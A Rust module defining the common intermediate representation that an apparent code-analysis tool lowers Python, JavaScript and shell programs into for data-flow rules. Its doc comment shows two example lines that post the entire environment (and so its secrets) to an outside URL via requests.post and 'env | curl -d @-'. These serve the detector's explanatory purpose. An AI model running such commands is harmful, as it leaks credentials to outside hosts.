//! The common form: how a program of any language is represented for the rules.
//!
//! Python, JavaScript and shell express the same few things in different ways: a value comes from a source, is changed, and goes
//! somewhere. Each language is *lowered* into this form once (see `lower`), and everything after that (data flow,
//! chains of evidence, capabilities) is written once. The form keeps the parts of a value and drops what it
//! does not need: types, control flow beyond order, arithmetic.
//!
//! ```text
//! requests.post(URL, json=dict(os.environ))      # Python
//!   Call requests.post [Name URL, json: Call dict [Name os.environ]]
//! env | curl -d @- https://example.com           # shell
//!   Call curl ["-d", "@-", "https://example.com"]  input: Call env []
//! ```
//!
//! Lowering never fails: code that a parser cannot read becomes [`Expr::Parts`] of the readable parts, and `LoweredProgram::broken` is set.

/// A position: a byte offset into the text that was lowered.
pub type At = u32;

/// A lowered program.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct LoweredProgram {
    /// Its statements, in order.
    pub body: Vec<Stmt>,
    /// The offset of the first piece that the parser could not read, if any.
    pub broken: Option<At>,
    /// Whether a part was left out because parsing it would have taken too long. Unlike a syntax error, this leaves text
    /// that was not scanned.
    pub cut: bool,
    /// Whether the parser of its language is not part of this build, so that most of it was not read.
    pub unparsed: bool,
}

/// A statement.
#[derive(Clone, Debug, PartialEq)]
pub enum Stmt {
    /// A name gets a value. `a.b = x` and `a["b"] = x` bind `a.b`; a name that is bound in several branches is bound
    /// several times.
    Let {
        /// The dotted name.
        name: String,
        /// The value that is assigned.
        value: Expr,
        /// The offset.
        at: At,
    },
    /// An expression is evaluated.
    Do(Expr),
    /// A function, method or shell function; lambdas and arrow functions that are bound to a name too.
    Function {
        /// Its name without the class.
        name: String,
        /// Names of its parameters, in order.
        params: Vec<String>,
        /// The statements of the function.
        body: Vec<Stmt>,
    },
    /// The return value of a function.
    Return(Expr),
    /// Statements that run conditionally or several times: `if`, `for`, `while`, `try`, `with`, `case`. The condition is
    /// evaluated first; else-branches and handlers are part of the body, in order.
    Block {
        /// The condition or the iterated value, if any.
        condition: Option<Expr>,
        /// The statements of the block.
        body: Vec<Stmt>,
    },
}

/// A value.
#[derive(Clone, Debug, PartialEq)]
pub enum Expr {
    /// A literal string; byte strings are decoded lossily, escapes are already undone.
    Text(String, At),
    /// A number; only one that could be a char code or an index.
    Number(i64, At),
    /// A variable, or a dotted path of one (`os.environ`, `process.env.HOME`); imported names are spelt out in full: after
    /// `from subprocess import run as r`, `r` is `subprocess.run`; after `const {exec: e} = require("child_process")`, `e` is
    /// `child_process.exec`. `node:` prefixes are dropped. In shell, `$X` and `${X…}` are `Name("X")`.
    Name(String, At),
    /// A call.
    Call(Box<CallExpr>),
    /// Concatenated strings: `+`, f-strings, templates, `"…" % x`, adjacent shell words such as `"$A"/b`.
    Join(Vec<Expr>),
    /// A combination of these whose form does not matter here: lists, dictionaries (values and keys), tuples,
    /// operators, conditionals, subscripts with unknown keys.
    Parts(Vec<Expr>),
    /// A list or tuple literal; order matters for argument vectors and char codes.
    List(Vec<Expr>),
    /// An anonymous function in place: an arrow function or lambda as an argument.
    Lambda {
        /// Its parameters.
        params: Vec<String>,
        /// The statements of the function.
        body: Vec<Stmt>,
    },
    /// An irrelevant value.
    Nothing,
}

/// A call.
#[derive(Clone, Debug, PartialEq)]
pub struct CallExpr {
    /// The callee, spelt out like [`Expr::Name`]: `subprocess.run`, `child_process.exec`, `curl`. For a method on a value
    /// that isn't a plain path it is the method with a leading dot (`.decode`), and `on` contains the value. For a method on a
    /// plain path (`session.post`) it is the whole path, and `on` contains the `Name` before the last dot.
    /// `new X(…)` calls `X`. In shell, it is the program's name without its folder (`/usr/bin/curl` is `curl`), or an empty
    /// string when the word isn't known; `on` then contains that word.
    pub callee: String,
    /// The value whose method is called.
    pub on: Option<Expr>,
    /// The arguments; in shell, all words after the program's name, including flags.
    pub args: Vec<Arg>,
    /// The piped input: the command before a `|`, a here-document, a here-string or `< file` (then a
    /// `CallExpr` of [`READ`] with the path).
    pub input: Option<Expr>,
    /// The offset.
    pub at: At,
    /// Its end offset.
    pub end: At,
}

/// The pseudo-call for `< file`: one argument, the path.
pub const READ: &str = "<";
/// The pseudo-call for `${x:-other}`: called on the first value, the second one is its argument.
pub const OTHERWISE: &str = ":-";
/// The pseudo-call for `> file` and `>> file`: the path is its argument, the written data its `input`. It is
/// around the command whose output is redirected.
pub const WRITE: &str = ">";

/// An argument.
#[derive(Clone, Debug, PartialEq)]
pub struct Arg {
    /// Its keyword (`json=`, or the key of an object literal that is an argument itself), if it has one.
    pub name: Option<String>,
    /// Its value.
    pub value: Expr,
}

impl Arg {
    /// An argument without a keyword.
    #[must_use]
    pub fn plain(value: Expr) -> Self {
        Self { name: None, value }
    }
}
